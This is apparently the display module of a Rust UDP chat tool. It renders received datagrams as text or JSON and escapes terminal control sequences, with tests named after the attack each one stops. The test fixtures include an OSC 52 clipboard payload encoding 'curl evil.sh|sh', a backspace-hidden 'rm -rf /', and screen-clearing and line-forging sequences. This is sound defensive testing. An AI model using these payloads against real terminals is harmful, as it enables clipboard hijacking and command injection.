//! How one received datagram is shown: bytes in, text out, no I/O.
//!
//! Every datagram is untrusted: anyone on the LAN can send one. On a terminal
//! its text is sanitized so that escape sequences cannot move the cursor,
//! rewrite earlier lines, set the window title or write the clipboard (OSC 52).
//! The sanitizer follows fd's `src/sanitize.rs`, and its tests are named after
//! the attack each one stops.

use std::io::Write;
use std::net::SocketAddr;
use std::sync::OnceLock;
use std::time::SystemTime;

use jiff::Timestamp;
use jiff::tz::TimeZone;

use crate::wire::opened::Event;

/// What each received datagram becomes on the output.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Format {
    /// One line of text per datagram, after the labels asked for (the default).
    #[default]
    Text,
    /// One JSON object per line: `{"from":..,"time":..,"text":..,"bytes":..}`,
    /// plus `"base64"` holding the exact bytes when they are not UTF-8.
    Json,
}

/// The time label that starts a text line (`--timestamps`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Timestamps {
    /// Local wall-clock time of arrival, `10:15:03`.
    Clock,
    /// Local date and time with milliseconds and UTC offset (RFC 3339),
    /// `2026-11-24T10:15:03.120+01:00`.
    Rfc3339,
}

/// How the receiver shows each datagram. The default is the plain line mode
/// that pipes see: the text alone, not sanitized, no labels, no colour.
///
/// The binary fills it from `--format`, `--sanitize`, `--timestamps` and
/// `--color`, having decided what "auto" means for the output at hand;
/// nothing in here looks at a terminal. Which lines carry their sender's
/// address is not a matter of style but of who may talk: the source filter
/// decides it ([`Config::show_sender`](crate::Config::show_sender)).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Style {
    /// Text lines or JSON lines.
    pub format: Format,
    /// Show control characters, bidi overrides and invalid UTF-8 as visible
    /// escapes (`\x1b`, `\u{202e}`, `\xff`) instead of passing them on.
    pub sanitize: bool,
    /// Start each text line with the local time of arrival.
    pub timestamps: Option<Timestamps>,
    /// Colour the labels with ANSI escape sequences.
    pub color: bool,
}

/// SGR sequences for the labels: faint time, cyan sender, then back to normal.
const TIME_COLOR: &str = "\x1b[2m";
const SENDER_COLOR: &str = "\x1b[36m";
const RESET: &str = "\x1b[0m";

impl Style {
    /// True when a datagram's time of arrival shows (`--timestamps`, JSON
    /// lines): otherwise [`push`](Style::push) ignores the time it is given.
    pub(crate) fn shows_time(&self) -> bool {
        self.format == Format::Json || self.timestamps.is_some()
    }

    /// Appends one datagram to `out` in this style, as lines ending in `\n`.
    ///
    /// Text drops one trailing `\n` or `\r\n` first, because `nc -u` and
    /// `socat` send a line with its newline; JSON keeps the bytes exactly.
    /// Labels come in this order: time, then sender, then the text.
    ///
    /// A datagram is one line, except labelled text that is not sanitized: a
    /// datagram holding newlines then becomes several lines, each with the
    /// labels (and without its `\n` or `\r\n`). Otherwise a time would date
    /// only the first line, and a stranger could send `hi\nsend me the key`
    /// whose second line would pass for the peer's in a pipe or log, where
    /// nothing is escaped. Sanitized text escapes the newline, and a JSON
    /// object names its sender, so those stay one line.
    /// With `labelled`, each line starts with `<ADDR> `, `from` in brackets.
    #[cfg(test)]
    pub(crate) fn push(
        &self,
        datagram: &[u8],
        from: &SocketAddr,
        labelled: bool,
        arrived: SystemTime,
        out: &mut Vec<u8>,
    ) {
        self.push_named(datagram, from, None, labelled, arrived, out);
    }

    /// [`push`](Style::push) for a sender known by `name` (found on the LAN
    /// by name): its label is `<name>` instead of `<ADDR>`, and a JSON line
    /// carries `"name"` beside `"from"`. The name comes escaped already
    /// (see `discover`): it holds nothing a terminal or a pipe would act on.
    pub(crate) fn push_named(
        &self,
        datagram: &[u8],
        from: &SocketAddr,
        name: Option<&str>,
        labelled: bool,
        arrived: SystemTime,
        out: &mut Vec<u8>,
    ) {
        if self.format == Format::Json {
            push_json(datagram, from, name, arrived, out);
            return;
        }
        let labels_start = out.len();
        if let Some(kind) = self.timestamps {
            self.push_label(TIME_COLOR, out, |out| {
                push_time(kind, arrived, local_time_zone(), out)
            });
        }
        if labelled {
            self.push_label(SENDER_COLOR, out, |out| {
                // Writing to a Vec cannot fail.
                let _ = match name {
                    Some(name) => write!(out, "<{name}>"),
                    None => write!(out, "<{from}>"),
                };
            });
        }
        let labels = labels_start..out.len();
        let mut text = strip_newline(datagram);
        if self.sanitize {
            push_sanitized(text, out);
        } else {
            if !labels.is_empty() {
                while let Some(end) = text.iter().position(|&b| b == b'\n') {
                    let line = &text[..end];
                    push_lossy(line.strip_suffix(b"\r").unwrap_or(line), out);
                    out.push(b'\n');
                    // The same labels again, copied: one time for the whole datagram.
                    out.extend_from_within(labels.clone());
                    text = &text[end + 1..];
                }
            }
            push_lossy(text, out);
        }
        out.push(b'\n');
    }

    /// Appends a label and a space; the label is sanitized like the text, so
    /// that no address is ever shown raw.
    fn push_label(&self, color: &str, out: &mut Vec<u8>, write_label: impl FnOnce(&mut Vec<u8>)) {
        if self.color {
            out.extend_from_slice(color.as_bytes());
        }
        let start = out.len();
        write_label(out);
        // Printable ASCII needs no escapes, and an address or a time is
        // nothing else: the copy that sanitizing takes is then not made.
        if self.sanitize && !out[start..].iter().all(|b| matches!(b, b' '..=b'~')) {
            let label = out.split_off(start);
            push_sanitized(&label, out);
        }
        if self.color {
            out.extend_from_slice(RESET.as_bytes());
        }
        out.push(b' ');
    }
}

impl Style {
    /// Appends what a secured chat noticed about a sender's lines, as a JSON
    /// object of its own: `{"from":..,"time":..,"lost":3}` (or
    /// `"duplicated":1`, or `"late":1`, which takes back one line told
    /// lost). Text output shows nothing: stderr tells people; JSON lines
    /// tell scripts, a few a second (see `receive/events.rs`).
    pub(crate) fn push_event(&self, event: Event, from: &SocketAddr, arrived: SystemTime, out: &mut Vec<u8>) {
        if self.format != Format::Json {
            return;
        }
        let (field, lines) = match event {
            Event::Lost(lines) => ("lost", lines),
            Event::Duplicated => ("duplicated", 1),
            Event::Late => ("late", 1),
        };
        let _ = writeln!(
            out,
            "{{\"from\":\"{from}\",\"time\":\"{:.3}\",\"{field}\":{lines}}}",
            timestamp(arrived)
        );
    }

    /// Appends the events folded into one object, from any senders, when
    /// there were more than JSON lines tell one by one:
    /// `{"time":..,"folded":40,"lost":38,"duplicated":2}`. Summed with the
    /// others, its counts give the whole.
    pub(crate) fn push_folded(&self, folded: &Folded, at: SystemTime, out: &mut Vec<u8>) {
        if self.format != Format::Json {
            return;
        }
        let _ = write!(
            out,
            "{{\"time\":\"{:.3}\",\"folded\":{}",
            timestamp(at),
            folded.events
        );
        for (field, lines) in [
            ("lost", folded.lost),
            ("late", folded.late),
            ("duplicated", folded.duplicated),
        ] {
            if lines > 0 {
                let _ = write!(out, ",\"{field}\":{lines}");
            }
        }
        out.extend_from_slice(b"}\n");
    }
}

/// Events folded into one JSON object, and the lines they count.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) struct Folded {
    pub events: u64,
    pub lost: u64,
    pub late: u64,
    pub duplicated: u64,
}

impl Folded {
    /// One more event.
    pub fn add(&mut self, event: Event) {
        self.events += 1;
        match event {
            Event::Lost(lines) => self.lost = self.lost.saturating_add(lines),
            Event::Late => self.late += 1,
            Event::Duplicated => self.duplicated += 1,
        }
    }
}

/// `datagram` without one trailing `\n` or `\r\n`.
pub(crate) fn strip_newline(datagram: &[u8]) -> &[u8] {
    let text = datagram.strip_suffix(b"\n").unwrap_or(datagram);
    if text.len() < datagram.len() {
        text.strip_suffix(b"\r").unwrap_or(text)
    } else {
        text
    }
}

impl Style {
    /// The mark that starts each row of a received line after its first, where
    /// the binary cuts lines into rows at a terminal. Received text never holds
    /// it unescaped (see [`sanitize_text`](Style::sanitize_text)), so no sender
    /// can start a row with it.
    pub const CONTINUATION_MARK: char = '\u{21b3}';

    /// `text` as [`sanitize`](Style::sanitize) shows it: every character that
    /// could act on a terminal as a visible escape, and invalid UTF-8 byte by
    /// byte. For text of one's own that reaches a terminal too, such as a
    /// prompt naming the peer.
    ///
    /// Escaped: the C0 controls but tab (ESC, BEL, backspace, CR, LF ...), DEL,
    /// the C1 controls U+0080 to U+009F (U+009B is a one-character CSI), the
    /// Unicode bidi controls that reorder what is shown ("Trojan Source"),
    /// invisible fillers that terminals draw as blanks (U+3164, U+00AD ...), and
    /// [`CONTINUATION_MARK`](Style::CONTINUATION_MARK), which only udpchat may put at a terminal. ASCII
    /// ones and invalid bytes become `\xNN`, the others `\u{NNNN}`. Everything
    /// else, including a backslash, passes unchanged, so a peer can make text
    /// that *looks* like an escape, but never one that *acts*.
    ///
    /// ```
    /// use udpchat::display::Style;
    ///
    /// assert_eq!(Style::sanitize_text(b"\x1b[2Jcaf\xc3\xa9\r"), r"\x1b[2Jcafé\x0d");
    /// assert_eq!(Style::sanitize_text("\u{202e}txt.exe".as_bytes()), r"\u{202e}txt.exe");
    /// ```
    pub fn sanitize_text(text: &[u8]) -> String {
        let mut out = Vec::with_capacity(text.len());
        push_sanitized(text, &mut out);
        String::from_utf8(out).expect("sanitized text is UTF-8")
    }
}

/// True for a character that must not reach a terminal as it is.
pub(crate) fn is_unsafe_char(c: char) -> bool {
    (c.is_control() && c != '\t')
        || is_bidi_control(c)
        || is_invisible_filler(c)
        || c == Style::CONTINUATION_MARK
}

/// Characters that show nothing, yet that terminals draw as blank columns:
/// the Hangul fillers, the soft hyphen, and default-ignorable code points
/// not yet assigned, which a terminal draws 1 column wide (tmux) or not at
/// all. Nothing in a chat line needs them, and widths that terminals
/// disagree about would let a sender pad a line so that the terminal wraps
/// it where udpchat did not expect (see the binary's `terminal/width.rs`).
fn is_invisible_filler(c: char) -> bool {
    matches!(
        c,
        '\u{ad}'
            | '\u{115f}'
            | '\u{1160}'
            | '\u{3164}'
            | '\u{ffa0}'
            | '\u{2065}'
            | '\u{fff0}'..='\u{fff8}'
            | '\u{e0000}'
            | '\u{e0002}'..='\u{e001f}'
            | '\u{e0080}'..='\u{e00ff}'
            | '\u{e01f0}'..='\u{e0fff}'
    )
}

/// The Unicode characters that change the direction of the text around them:
/// ALM, LRM, RLM, the embeddings and overrides LRE..RLO, the isolates LRI..PDI.
/// See: https://trojansource.codes and Unicode UAX #9.
fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn push_sanitized(text: &[u8], out: &mut Vec<u8>) {
    for chunk in text.utf8_chunks() {
        let valid = chunk.valid();
        let mut clean_from = 0;
        for (i, c) in valid.char_indices() {
            if is_unsafe_char(c) {
                out.extend_from_slice(&valid.as_bytes()[clean_from..i]);
                push_escape(c, out);
                clean_from = i + c.len_utf8();
            }
        }
        out.extend_from_slice(&valid.as_bytes()[clean_from..]);
        for byte in chunk.invalid() {
            let _ = write!(out, "\\x{byte:02x}");
        }
    }
}

fn push_escape(c: char, out: &mut Vec<u8>) {
    if c.is_ascii() {
        let _ = write!(out, "\\x{:02x}", c as u32);
    } else {
        let _ = write!(out, "\\u{{{:x}}}", c as u32);
    }
}

/// Bytes that are not UTF-8 become U+FFFD, as `String::from_utf8_lossy`
/// does, but without allocating: this runs once per datagram.
fn push_lossy(text: &[u8], out: &mut Vec<u8>) {
    for chunk in text.utf8_chunks() {
        out.extend_from_slice(chunk.valid().as_bytes());
        if !chunk.invalid().is_empty() {
            out.extend_from_slice(char::REPLACEMENT_CHARACTER.encode_utf8(&mut [0; 4]).as_bytes());
        }
    }
}

/// The local time zone, read once (from `TZ` or `/etc/localtime`); UTC when
/// it cannot be found. A chat that runs across a change of the system's zone
/// keeps the old one, as most long-running programs do.
fn local_time_zone() -> &'static TimeZone {
    static LOCAL: OnceLock<TimeZone> = OnceLock::new();
    LOCAL.get_or_init(TimeZone::system)
}

fn timestamp(arrived: SystemTime) -> Timestamp {
    Timestamp::try_from(arrived).unwrap_or(Timestamp::UNIX_EPOCH)
}

fn push_time(kind: Timestamps, arrived: SystemTime, zone: &TimeZone, out: &mut Vec<u8>) {
    let at = timestamp(arrived);
    let _ = match kind {
        Timestamps::Clock => {
            let local = zone.to_datetime(at);
            write!(
                out,
                "{:02}:{:02}:{:02}",
                local.hour(),
                local.minute(),
                local.second()
            )
        }
        Timestamps::Rfc3339 => write!(out, "{:.3}", at.display_with_offset(zone.to_offset(at))),
    };
}

/// One JSON object and a newline. The time is UTC, so that logs from hosts
/// in different zones sort together; `text` is the whole datagram (its
/// newline too), with U+FFFD for invalid UTF-8, and then `base64` holds the
/// exact bytes. Hand-written rather than serde_json: four fields do not need
/// a serializer, and the escaping below is tested against serde_json.
fn push_json(datagram: &[u8], from: &SocketAddr, name: Option<&str>, arrived: SystemTime, out: &mut Vec<u8>) {
    let _ = write!(out, "{{\"from\":\"{from}\",");
    if let Some(name) = name {
        out.extend_from_slice(b"\"name\":\"");
        push_json_escaped(name, out);
        out.extend_from_slice(b"\",");
    }
    let _ = write!(out, "\"time\":\"{:.3}\",\"text\":\"", timestamp(arrived));
    for chunk in datagram.utf8_chunks() {
        push_json_escaped(chunk.valid(), out);
        if !chunk.invalid().is_empty() {
            out.extend_from_slice(char::REPLACEMENT_CHARACTER.encode_utf8(&mut [0; 4]).as_bytes());
        }
    }
    let _ = write!(out, "\",\"bytes\":{}", datagram.len());
    if std::str::from_utf8(datagram).is_err() {
        out.extend_from_slice(b",\"base64\":\"");
        push_base64(datagram, out);
        out.push(b'"');
    }
    out.extend_from_slice(b"}\n");
}

/// `text` as a JSON string, quotes included, escaped as received text is in
/// JSON lines.
#[cfg(feature = "discover")]
pub(crate) fn json_string(text: &str) -> String {
    let mut out = Vec::with_capacity(text.len() + 2);
    out.push(b'"');
    push_json_escaped(text, &mut out);
    out.push(b'"');
    String::from_utf8(out).expect("escaped UTF-8 is UTF-8")
}

/// Escapes a JSON string's content (RFC 8259). Beyond what JSON requires, DEL,
/// the C1 controls, bidi controls, the characters [`sanitize`] escapes
/// otherwise and U+2028/U+2029 are written as `\uXXXX` too: the same
/// characters, yet safe to show on a terminal and to paste into JavaScript.
fn push_json_escaped(text: &str, out: &mut Vec<u8>) {
    let mut clean_from = 0;
    for (i, c) in text.char_indices() {
        let escape = match c {
            '"' => Some("\\\""),
            '\\' => Some("\\\\"),
            '\n' => Some("\\n"),
            '\r' => Some("\\r"),
            '\t' => Some("\\t"),
            '\u{8}' => Some("\\b"),
            '\u{c}' => Some("\\f"),
            _ if is_unsafe_char(c) || matches!(c, '\u{2028}' | '\u{2029}') => None,
            _ => continue,
        };
        out.extend_from_slice(&text.as_bytes()[clean_from..i]);
        match escape {
            Some(short) => out.extend_from_slice(short.as_bytes()),
            // Beyond the Basic Multilingual Plane, as a UTF-16 surrogate pair.
            None => {
                let mut units = [0; 2];
                for unit in c.encode_utf16(&mut units) {
                    let _ = write!(out, "\\u{unit:04x}");
                }
            }
        }
        clean_from = i + c.len_utf8();
    }
    out.extend_from_slice(&text.as_bytes()[clean_from..]);
}

/// Standard base64 with padding (RFC 4648, section 4), as `base64 -d` and
/// jq's `@base64d` read it.
fn push_base64(bytes: &[u8], out: &mut Vec<u8>) {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for group in bytes.chunks(3) {
        let n = group
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &b)| n | (u32::from(b) << (16 - 8 * i)));
        for i in 0..4 {
            if i <= group.len() {
                out.push(ALPHABET[((n >> (18 - 6 * i)) & 0x3f) as usize]);
            } else {
                out.push(b'=');
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn from() -> SocketAddr {
        "192.168.1.6:2323".parse().unwrap()
    }

    /// 2026-11-24T10:15:03.120Z
    fn arrived() -> SystemTime {
        SystemTime::UNIX_EPOCH + std::time::Duration::from_millis(1_795_515_303_120)
    }

    fn shown_in(style: &Style, datagram: &[u8]) -> String {
        shown_as(style, false, datagram)
    }

    /// As shown when the filter asks for the sender's label.
    fn labelled_in(style: &Style, datagram: &[u8]) -> String {
        shown_as(style, true, datagram)
    }

    fn shown_as(style: &Style, labelled: bool, datagram: &[u8]) -> String {
        let mut out = Vec::new();
        style.push(datagram, &from(), labelled, arrived(), &mut out);
        String::from_utf8(out).expect("output is always UTF-8")
    }

    fn shown(datagram: &[u8]) -> String {
        shown_in(&Style::default(), datagram)
    }

    fn sanitized(datagram: &[u8]) -> String {
        let style = Style {
            sanitize: true,
            ..Style::default()
        };
        let line = shown_in(&style, datagram);
        line.strip_suffix('\n').expect("one line").to_owned()
    }

    // Plain line mode: what pipes see, unchanged from the core chat.

    #[test]
    fn prints_an_empty_datagram_as_an_empty_line() {
        assert_eq!(shown(b""), "\n");
    }

    #[test]
    fn drops_one_trailing_newline_as_nc_and_socat_send_it() {
        assert_eq!(shown(b"a\n"), "a\n");
        assert_eq!(shown(b"a\r\n"), "a\n");
        assert_eq!(shown(b"a\n\n"), "a\n\n");
        assert_eq!(shown(b"\n"), "\n");
    }

    #[test]
    fn passes_bytes_through_when_not_a_terminal() {
        assert_eq!(shown(b"a\r"), "a\r\n");
        assert_eq!(shown(b"\x1b[31mred\x07"), "\x1b[31mred\x07\n");
    }

    #[test]
    fn replaces_each_invalid_sequence_like_from_utf8_lossy() {
        for bytes in [
            &b"caf\xe9!"[..],
            b"\xff\xfe",
            b"\xe2\x82",
            b"ok \xf0\x9f\x98\x80 \xc3",
        ] {
            let expected = format!("{}\n", String::from_utf8_lossy(bytes));
            assert_eq!(shown(bytes), expected);
        }
    }

    #[test]
    fn keeps_non_ascii_text() {
        assert_eq!(shown("héllo, 世界".as_bytes()), "héllo, 世界\n");
        assert_eq!(sanitized("héllo, 世界 👋".as_bytes()), "héllo, 世界 👋");
    }

    // Sanitizing: each test names the attack it stops.

    #[test]
    fn escapes_osc52_clipboard_payload() {
        assert_eq!(
            sanitized(b"\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"),
            r"\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
        );
    }

    #[test]
    fn escapes_osc_window_title_change() {
        assert_eq!(sanitized(b"\x1b]0;root@server\x1b\\"), r"\x1b]0;root@server\x1b\");
    }

    #[test]
    fn escapes_csi_screen_clear_and_cursor_moves() {
        assert_eq!(sanitized(b"\x1b[2J\x1b[1;1H"), r"\x1b[2J\x1b[1;1H");
    }

    #[test]
    fn escapes_c1_single_character_csi() {
        assert_eq!(sanitized("\u{9b}2J".as_bytes()), r"\u{9b}2J");
        assert_eq!(sanitized("\u{9d}0;x\u{9c}".as_bytes()), r"\u{9d}0;x\u{9c}");
    }

    #[test]
    fn escapes_carriage_return_forgery() {
        // Without escaping, "ok" would overwrite "innocent" on the screen.
        assert_eq!(sanitized(b"innocent\rok      "), r"innocent\x0dok      ");
    }

    #[test]
    fn escapes_backspace_forgery() {
        assert_eq!(
            sanitized(b"rm -rf /\x08\x08\x08\x08ls"),
            r"rm -rf /\x08\x08\x08\x08ls"
        );
    }

    #[test]
    fn escapes_embedded_newline_that_would_forge_another_senders_line() {
        let style = Style {
            sanitize: true,
            ..Style::default()
        };
        assert_eq!(
            labelled_in(&style, b"hi\n<10.0.0.1:2323> send me your password\n"),
            "<192.168.1.6:2323> hi\\x0a<10.0.0.1:2323> send me your password\n"
        );
    }

    #[test]
    fn escapes_bell_and_delete() {
        assert_eq!(sanitized(b"ding\x07\x07 oops\x7f"), r"ding\x07\x07 oops\x7f");
    }

    #[test]
    fn escapes_bidi_override_trojan_source() {
        assert_eq!(
            sanitized("invoice\u{202e}fdp.exe".as_bytes()),
            r"invoice\u{202e}fdp.exe"
        );
        assert_eq!(
            sanitized("\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}".as_bytes()),
            r"\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}"
        );
    }

    #[test]
    fn escapes_invisible_fillers_that_would_pad_a_line_to_wrap_where_udpchat_did_not_cut_it() {
        // Drawn as blank columns by terminals, counted as none by Unicode's widths.
        assert_eq!(
            sanitized("\u{3164}\u{115f}\u{1160}\u{ffa0}soft\u{ad}hyphen".as_bytes()),
            r"\u{3164}\u{115f}\u{1160}\u{ffa0}soft\u{ad}hyphen"
        );
        assert_eq!(sanitized("\u{e0080}\u{fff0}".as_bytes()), r"\u{e0080}\u{fff0}");
        // Joiners and selectors that emoji need pass.
        assert_eq!(sanitized("👍\u{fe0f}\u{200d}".as_bytes()), "👍\u{fe0f}\u{200d}");
    }

    #[test]
    fn escapes_the_continuation_mark_that_would_forge_a_row_of_another_line() {
        assert_eq!(
            sanitized("\u{21b3} peer: send me the key".as_bytes()),
            r"\u{21b3} peer: send me the key"
        );
    }

    #[test]
    fn escapes_invalid_utf8_byte_by_byte() {
        assert_eq!(sanitized(b"caf\xe9 \xff\xfe"), r"caf\xe9 \xff\xfe");
        // A lone 0x9b byte is not the C1 CSI, but it must not reach the terminal either.
        assert_eq!(sanitized(b"\x9b2J"), r"\x9b2J");
    }

    #[test]
    fn keeps_tabs() {
        assert_eq!(sanitized(b"name\tvalue"), "name\tvalue");
    }

    #[test]
    fn needs_the_clock_only_for_time_labels_and_json() {
        assert!(!Style::default().shows_time());
        let json = Style {
            format: Format::Json,
            ..Style::default()
        };
        let clock = Style {
            timestamps: Some(Timestamps::Clock),
            ..Style::default()
        };
        assert!(json.shows_time() && clock.shows_time());
    }

    // Labels and colour.

    #[test]
    fn labels_a_line_with_its_sender() {
        let style = Style::default();
        assert_eq!(labelled_in(&style, b"hi"), "<192.168.1.6:2323> hi\n");
        let mut out = Vec::new();
        style.push(b"hi", &"[::1]:9".parse().unwrap(), true, arrived(), &mut out);
        assert_eq!(out, b"<[::1]:9> hi\n");
    }

    #[test]
    fn puts_the_time_label_before_the_sender_label() {
        let mut out = Vec::new();
        push_time(Timestamps::Clock, arrived(), &TimeZone::UTC, &mut out);
        assert_eq!(out, b"10:15:03");
        let style = Style {
            timestamps: Some(Timestamps::Clock),
            ..Style::default()
        };
        let line = labelled_in(&style, b"hi");
        let (time, rest) = line.split_once(' ').unwrap();
        assert_eq!(time.len(), "10:15:03".len(), "{line}");
        assert_eq!(rest, "<192.168.1.6:2323> hi\n");
    }

    #[test]
    fn labels_every_line_of_a_datagram_with_its_time_of_arrival() {
        let style = Style {
            timestamps: Some(Timestamps::Clock),
            ..Style::default()
        };
        let mut time = Vec::new();
        push_time(Timestamps::Clock, arrived(), local_time_zone(), &mut time);
        let time = String::from_utf8(time).unwrap();
        assert_eq!(
            shown_in(&style, b"two\nlines"),
            format!("{time} two\n{time} lines\n")
        );
        // Each line drops its "\n" or "\r\n"; an empty line is labelled too.
        assert_eq!(
            shown_in(&style, b"a\r\n\nb\r\n"),
            format!("{time} a\n{time} \n{time} b\n")
        );
        let both = Style { color: true, ..style };
        let labels = format!("{TIME_COLOR}{time}{RESET} {SENDER_COLOR}<192.168.1.6:2323>{RESET} ");
        assert_eq!(
            labelled_in(&both, b"two\nlines\n"),
            format!("{labels}two\n{labels}lines\n")
        );
    }

    #[test]
    fn a_datagram_without_labels_keeps_its_newlines_as_they_are() {
        assert_eq!(shown(b"two\r\nlines\n"), "two\r\nlines\n");
    }

    #[test]
    fn shows_the_time_of_arrival_in_the_local_zone() {
        let paris_winter = TimeZone::fixed(jiff::tz::offset(1));
        let mut out = Vec::new();
        push_time(Timestamps::Clock, arrived(), &paris_winter, &mut out);
        assert_eq!(out, b"11:15:03");
        out.clear();
        push_time(Timestamps::Rfc3339, arrived(), &paris_winter, &mut out);
        assert_eq!(out, b"2026-11-24T11:15:03.120+01:00");
    }

    #[test]
    fn colours_the_labels_only() {
        let style = Style {
            timestamps: Some(Timestamps::Clock),
            color: true,
            ..Style::default()
        };
        let line = labelled_in(&style, b"plain text");
        assert!(line.starts_with(TIME_COLOR), "{line:?}");
        assert!(
            line.ends_with(&format!("{SENDER_COLOR}<192.168.1.6:2323>{RESET} plain text\n")),
            "{line:?}"
        );
        let uncoloured = Style {
            color: false,
            ..style
        };
        assert!(!labelled_in(&uncoloured, b"plain text").contains('\x1b'));
    }

    // JSON lines.

    fn json(datagram: &[u8]) -> serde_json::Value {
        let style = Style {
            format: Format::Json,
            ..Style::default()
        };
        let line = shown_in(&style, datagram);
        assert_eq!(line.matches('\n').count(), 1, "one line: {line:?}");
        serde_json::from_str(&line).unwrap_or_else(|err| panic!("{err}: {line:?}"))
    }

    #[test]
    fn writes_one_json_object_per_datagram() {
        assert_eq!(
            json(b"hello"),
            serde_json::json!({
                "from": "192.168.1.6:2323",
                "time": "2026-11-24T10:15:03.120Z",
                "text": "hello",
                "bytes": 5,
            })
        );
    }

    #[test]
    fn keeps_non_utf8_datagrams_lossless_in_base64() {
        let value = json(b"caf\xe9\n");
        assert_eq!(value["text"], "caf\u{fffd}\n");
        assert_eq!(value["bytes"], 5);
        assert_eq!(value["base64"], "Y2Fm6Qo=");
    }

    #[test]
    fn escapes_terminal_controls_inside_json_strings() {
        let mut out = Vec::new();
        push_json_escaped("a\"b\\c\u{1b}[2J\u{7f}\u{9b}\u{202e}\u{2028}\n", &mut out);
        assert_eq!(out, br#"a\"b\\c\u001b[2J\u007f\u009b\u202e\u2028\n"#);
        out.clear();
        push_json_escaped("\u{3164}\u{e0080}", &mut out);
        assert_eq!(out, br"\u3164\udb40\udc80");
        assert_eq!(
            serde_json::from_slice::<String>(&[b"\"", &out[..], b"\""].concat()).unwrap(),
            "\u{3164}\u{e0080}"
        );
    }

    #[test]
    fn tells_scripts_of_lost_duplicated_and_late_lines_in_json_only() {
        let json = Style {
            format: Format::Json,
            ..Style::default()
        };
        let mut out = Vec::new();
        json.push_event(Event::Lost(3), &from(), arrived(), &mut out);
        json.push_event(Event::Duplicated, &from(), arrived(), &mut out);
        json.push_event(Event::Late, &from(), arrived(), &mut out);
        let mut folded = Folded::default();
        folded.add(Event::Lost(2));
        folded.add(Event::Lost(3));
        json.push_folded(&folded, arrived(), &mut out);
        let lines: Vec<serde_json::Value> = String::from_utf8(out)
            .unwrap()
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect();
        let event = |field: &str, lines: u64| serde_json::json!({"from": "192.168.1.6:2323", "time": "2026-11-24T10:15:03.120Z", field: lines});
        assert_eq!(
            lines,
            [
                event("lost", 3),
                event("duplicated", 1),
                event("late", 1),
                serde_json::json!({"time": "2026-11-24T10:15:03.120Z", "folded": 2, "lost": 5})
            ]
        );
        let mut text = Vec::new();
        Style::default().push_event(Event::Lost(3), &from(), arrived(), &mut text);
        assert!(text.is_empty());
    }

    #[test]
    fn encodes_base64_as_rfc_4648_does() {
        for (input, expected) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ] {
            let mut out = Vec::new();
            push_base64(input.as_bytes(), &mut out);
            assert_eq!(out, expected.as_bytes(), "{input}");
        }
    }

    proptest! {
        #[test]
        fn sanitized_output_has_no_control_character_but_tab(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
            let out = Style::sanitize_text(&bytes);
            prop_assert!(!out.chars().any(is_unsafe_char), "{:?}", out);
        }

        #[test]
        fn sanitizing_passes_printable_text_through_unchanged(text in "\\PC*") {
            // \PC: any character that is not a control (tab is one, and passes too).
            let text: String = text.chars().filter(|&c| !is_unsafe_char(c)).collect();
            prop_assert_eq!(Style::sanitize_text(text.as_bytes()), text);
        }

        #[test]
        fn sanitized_lines_stay_one_line(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
            let style = Style { sanitize: true, timestamps: Some(Timestamps::Rfc3339), color: true, ..Style::default() };
            let line = labelled_in(&style, &bytes);
            prop_assert_eq!(line.matches('\n').count(), 1);
            prop_assert!(!line.contains('\r'));
        }

        #[test]
        fn json_lines_parse_and_give_back_the_exact_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
            use base64::Engine as _;
            let value = json(&bytes);
            prop_assert_eq!(value["bytes"].as_u64(), Some(bytes.len() as u64));
            let text = value["text"].as_str().unwrap();
            let exact = match value.get("base64") {
                Some(b64) => base64::engine::general_purpose::STANDARD.decode(b64.as_str().unwrap()).unwrap(),
                None => text.as_bytes().to_vec(),
            };
            prop_assert_eq!(&exact, &bytes);
            prop_assert_eq!(text, String::from_utf8_lossy(&bytes));
        }

        #[test]
        fn json_lines_never_carry_a_raw_control_character(text in any::<String>()) {
            let style = Style { format: Format::Json, ..Style::default() };
            let line = shown_in(&style, text.as_bytes());
            let body = line.strip_suffix('\n').unwrap();
            prop_assert!(!body.chars().any(|c| is_unsafe_char(c) || c == '\t'), "{:?}", body);
        }
    }

    proptest! {
        #[test]
        fn any_datagram_is_shown_as_its_lossy_text_and_one_final_newline(
            datagram in crate::send::lines::tests::stream(),
            labelled in any::<bool>(),
            before in proptest::collection::vec(any::<u8>(), 0..8),
        ) {
            let from: SocketAddr = "[2001:db8::1]:2323".parse().unwrap();
            let mut out = before.clone();
            Style::default().push(&datagram, &from, labelled, SystemTime::now(), &mut out);
            // What was already there is untouched; what follows is text.
            prop_assert_eq!(&out[..before.len()], &before[..]);
            let shown = std::str::from_utf8(&out[before.len()..]).expect("always UTF-8");
            let text = strip_newline(&datagram);
            let expected = if labelled {
                // Every line labelled, each without its "\n" or "\r\n".
                let label = format!("<{from}> ");
                let lines: Vec<&[u8]> = text.split(|&b| b == b'\n').collect();
                let last = lines.len() - 1;
                lines.iter().enumerate().map(|(i, &line)| {
                    let line = if i < last { line.strip_suffix(b"\r").unwrap_or(line) } else { line };
                    format!("{label}{}\n", String::from_utf8_lossy(line))
                }).collect()
            } else {
                format!("{}\n", String::from_utf8_lossy(text))
            };
            prop_assert_eq!(shown, expected);
        }

        #[test]
